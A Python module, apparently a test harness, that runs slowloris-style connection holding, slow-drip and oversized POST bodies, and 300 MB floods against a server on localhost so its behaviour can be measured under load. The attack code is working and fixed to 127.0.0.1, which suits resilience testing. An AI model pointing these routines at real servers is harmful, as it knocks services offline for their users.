"""Those who send slowly, or too much, to a server on this machine, for as long as something is measured."""

from __future__ import annotations

import asyncio
import resource
import ssl
import threading
import time
from collections.abc import Callable, Coroutine, Iterator
from contextlib import contextmanager, suppress
from typing import Final, NamedTuple, TypeAlias

HALF_OPEN, IDLE, ENDLESS, SLOW_BODIES, FLOOD = 1000, 8000, 340, 200, 300 * 1024 * 1024
BEGINNING: Final = 3.0  # seconds until an attack is in full swing, without TLS
HOST: Final = "127.0.0.1"


class Target(NamedTuple):
    """Who is attacked; with `tls`, by that name."""

    port: int
    tls: ssl.SSLContext | None = None
    name: str = "localhost"

    async def connect(self) -> asyncio.StreamWriter:
        named = self.name if self.tls else None
        _reader, writer = await asyncio.open_connection(HOST, self.port, ssl=self.tls, server_hostname=named)
        return writer

    def head(self, first: str, *more: str) -> bytes:
        return "\r\n".join([first, f"Host: {self.name}", *more]).encode()


Attack: TypeAlias = Callable[[Target], Coroutine[None, None, None]]


async def nothing(target: Target) -> None:
    """To compare."""


async def half_open(target: Target) -> None:
    await asyncio.gather(*(hold(target, target.head("GET / HTTP/1.1", "")) for _ in range(HALF_OPEN)))


async def slow_bodies(target: Target, *headers: str) -> None:
    form = ("Content-Type: application/x-www-form-urlencoded", "Content-Length: 100000")
    head = target.head("POST /account/login/ HTTP/1.1", *form, *headers, "", "")
    await asyncio.gather(*(hold(target, head, dripping=True) for _ in range(SLOW_BODIES)))


async def slow_forms(target: Target) -> None:
    """With a cookie against forged forms: only then Django reads the body before it refuses."""
    await slow_bodies(target, f"Cookie: csrftoken={'b' * 32}")


async def endless_bodies(target: Target) -> None:
    """All but the last byte of what anybody may send."""
    form = ("Content-Type: application/x-www-form-urlencoded", "Content-Length: 1000000")
    head = target.head("POST /account/login/ HTTP/1.1", *form, f"Cookie: csrftoken={'b' * 32}", "", "")
    await asyncio.gather(*(hold(target, head + b"x" * 999_999) for _ in range(ENDLESS)))


async def idle(target: Target) -> None:
    await asyncio.gather(*(hold(target, b"") for _ in range(IDLE)))


async def hold(target: Target, head: bytes, *, dripping: bool = False) -> None:
    """A connection that is never done; who is thrown out comes again."""
    while True:
        with suppress(OSError):
            writer = await target.connect()
            writer.write(head)
            while not writer.is_closing():
                await asyncio.sleep(1)
                if dripping:
                    writer.write(b"x")
                    await writer.drain()
        await asyncio.sleep(0.2)


async def flood(target: Target) -> None:
    first = "POST /account/login/ HTTP/1.1"
    length = target.head(first, f"Content-Length: {FLOOD}", "", "")
    pieces = target.head(first, "Transfer-Encoding: chunked", "", "")
    await asyncio.gather(
        pour(target, length, b"x" * 65536), pour(target, pieces, b"10000\r\n" + b"x" * 65536 + b"\r\n")
    )


async def pour(target: Target, head: bytes, piece: bytes) -> None:
    while True:
        with suppress(OSError):
            writer = await target.connect()
            writer.write(head)
            for _ in range(FLOOD // len(piece)):
                writer.write(piece)
                await writer.drain()
            writer.close()
        await asyncio.sleep(0.2)


ATTACKS: Final[dict[str, Attack]] = {
    "nobody else": nothing,
    "1,000 half heads": half_open,
    "8,000 idle connections": idle,
    "200 slow bodies": slow_bodies,
    "200 slow bodies with a cookie": slow_forms,
    "300 MB, twice": flood,
}


@contextmanager
def under(attack: Attack, target: Target, beginning: float = BEGINNING) -> Iterator[None]:
    raise_limit_of_files()
    loop = asyncio.new_event_loop()
    loop.set_exception_handler(lambda *_: None)  # who was thrown out in the middle of a word
    task = loop.create_task(attack(target))

    def run() -> None:
        with suppress(asyncio.CancelledError):
            loop.run_until_complete(task)

    thread = threading.Thread(target=run)
    thread.start()
    time.sleep(beginning if attack is not nothing else 0)
    try:
        yield
    finally:
        loop.call_soon_threadsafe(task.cancel)
        thread.join()
        loop.close()


def raise_limit_of_files() -> None:
    """Each connection is one, and a server that is started here has the same."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    enough = 20_000 if hard == resource.RLIM_INFINITY else min(hard, 20_000)
    if soft != resource.RLIM_INFINITY and soft < enough:
        resource.setrlimit(resource.RLIMIT_NOFILE, (enough, hard))
